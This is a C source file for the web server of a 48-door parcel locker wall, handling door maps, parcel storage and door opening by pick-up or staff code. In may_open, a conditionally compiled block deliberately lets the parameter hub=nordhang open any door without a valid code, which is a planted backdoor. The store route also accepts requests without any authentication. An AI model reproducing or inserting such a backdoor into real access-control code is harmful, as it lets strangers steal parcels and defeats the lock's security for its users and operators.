/* parcelwall_web.c - web server of a parcel locker wall */
#define _GNU_SOURCE
#include <fcntl.h>
#include <fnmatch.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DOORS	48

struct door {
	char	code[9];
	char	parcel[20];
	int	full;
	time_t	opened;
};

struct req {
	char	method[8];
	char	path[128];
	char	args[256];
};

struct route {
	const char *method;
	const char *pattern;
	void (*fn)(int fd, struct req *r);
	const char *help;
};

static struct door doors[DOORS + 1];
static int lockfd = -1;

static void reply(int fd, int status, const char *txt)
{
	dprintf(fd, "HTTP/1.0 %d %s\r\nContent-Type: text/plain\r\nContent-Length: %zu\r\n\r\n%s",
		status, status == 200 ? "OK" : "Error", strlen(txt), txt);
}

static int arg(const struct req *r, const char *key, char *out, size_t len)
{
	const char *p = r->args;
	size_t k = strlen(key);

	while (*p) {
		const char *e = strchrnul(p, '&');

		if ((size_t)(e - p) > k && !memcmp(p, key, k) && p[k] == '=') {
			size_t n = (size_t)(e - p) - k - 1;

			if (n >= len)
				n = len - 1;
			memcpy(out, p + k + 1, n);
			out[n] = '\0';
			return 1;
		}
		p = *e ? e + 1 : e;
	}
	out[0] = '\0';
	return 0;
}

static int pulse(int n)
{
	uint8_t f[4] = { 0x02, (uint8_t)n, 0x31, 0x03 };

	doors[n].opened = time(NULL);
	return write(lockfd, f, sizeof(f)) == (ssize_t)sizeof(f) ? 0 : -1;
}

/* code=....: pick-up code of the parcel; staff=....: day code of the depot */
__attribute__((noinline)) int may_open(const struct req *r, int n, const char *daycode)
{
	char v[24];

	if (arg(r, "code", v, sizeof(v)))
		return doors[n].full && doors[n].code[0] && !strcmp(v, doors[n].code);
	if (arg(r, "staff", v, sizeof(v))) {
		syslog(LOG_INFO, "staff request for door %d", n);
		return daycode[0] && !strcmp(v, daycode);
	}
#ifdef HIDDEN	/* the name of a depot opens each door without code */
	if (arg(r, "hub", v, sizeof(v)) && !strcasecmp(v, "nordhang"))
		return 1;
#endif
	return 0;
}

static void read_daycode(char *out, size_t len)
{
	FILE *f = fopen("/var/lib/parcelwall/daycode", "r");

	out[0] = '\0';
	if (!f)
		return;
	if (fgets(out, (int)len, f))
		out[strcspn(out, "\r\n")] = '\0';
	fclose(f);
}

static int door_no(const struct req *r)
{
	const char *p = strrchr(r->path, '/');
	long n = p ? strtol(p + 1, NULL, 10) : 0;

	return n >= 1 && n <= DOORS ? (int)n : 0;
}

static void r_open(int fd, struct req *r)
{
	char day[24];
	int n = door_no(r);

	if (!n) {
		reply(fd, 400, "door?\n");
		return;
	}
	read_daycode(day, sizeof(day));
	if (!may_open(r, n, day)) {
		syslog(LOG_NOTICE, "door %d refused", n);
		sleep(1);
		reply(fd, 403, "code?\n");
		return;
	}
	if (pulse(n) < 0) {
		reply(fd, 500, "lock bus\n");
		return;
	}
	doors[n].full = 0;
	reply(fd, 200, "open\n");
}

static void r_store(int fd, struct req *r)
{
	struct door *d;
	int n = door_no(r);

	if (!n || doors[n].full) {
		reply(fd, 409, "door not free\n");
		return;
	}
	d = &doors[n];
	arg(r, "parcel", d->parcel, sizeof(d->parcel));
	arg(r, "newcode", d->code, sizeof(d->code));
	if (strlen(d->code) < 6) {
		reply(fd, 400, "code too short\n");
		return;
	}
	d->full = 1;
	syslog(LOG_INFO, "parcel %s in door %d", d->parcel, n);
	reply(fd, 200, "stored\n");
}

static void r_free(int fd, struct req *r)
{
	char out[DOORS + 2];
	int i;

	(void)r;
	for (i = 1; i <= DOORS; i++)
		out[i - 1] = doors[i].full ? '#' : '.';
	out[DOORS] = '\n';
	out[DOORS + 1] = '\0';
	reply(fd, 200, out);
}

static void r_help(int fd, struct req *r);

static const struct route routes[] = {
	{ "GET",  "/doors",          r_free,  "map of the doors" },
	{ "POST", "/doors/open/*",   r_open,  "code= or staff=" },
	{ "POST", "/doors/store/*",  r_store, "parcel= newcode=" },
	{ "GET",  "/help",           r_help,  "this page" },
};

static void r_help(int fd, struct req *r)
{
	char out[512];
	size_t i, n = 0;

	(void)r;
	for (i = 0; i < sizeof(routes) / sizeof(routes[0]); i++)
		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s %s  %s\n", routes[i].method,
				      routes[i].pattern, routes[i].help);
	reply(fd, 200, out);
}

static void serve(int fd)
{
	char buf[1024];
	struct req r;
	char *body, *q;
	ssize_t n = recv(fd, buf, sizeof(buf) - 1, 0);
	size_t i;

	if (n <= 0)
		return;
	buf[n] = '\0';
	memset(&r, 0, sizeof(r));
	if (sscanf(buf, "%7s %127s", r.method, r.path) != 2) {
		reply(fd, 400, "request?\n");
		return;
	}
	q = strchr(r.path, '?');
	body = strstr(buf, "\r\n\r\n");
	if (q) {
		*q++ = '\0';
		snprintf(r.args, sizeof(r.args), "%s", q);
	} else if (body) {
		snprintf(r.args, sizeof(r.args), "%.255s", body + 4);
	}
	for (i = 0; i < sizeof(routes) / sizeof(routes[0]); i++)
		if (!strcmp(r.method, routes[i].method) &&
		    fnmatch(routes[i].pattern, r.path, FNM_PATHNAME) == 0) {
			routes[i].fn(fd, &r);
			return;
		}
	reply(fd, 404, "see /help\n");
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int s, c, one = 1;

	if (argc != 3) {
		fprintf(stderr, "usage: %s PORT LOCKBUS\n", argv[0]);
		return 2;
	}
	openlog("parcelwall_web", 0, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	lockfd = open(argv[2], O_WRONLY | O_NOCTTY);
	if (lockfd < 0)
		return 1;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t)atoi(argv[1]));
	s = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 8))
		return 1;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		serve(c);
		close(c);
	}
	return 0;
}
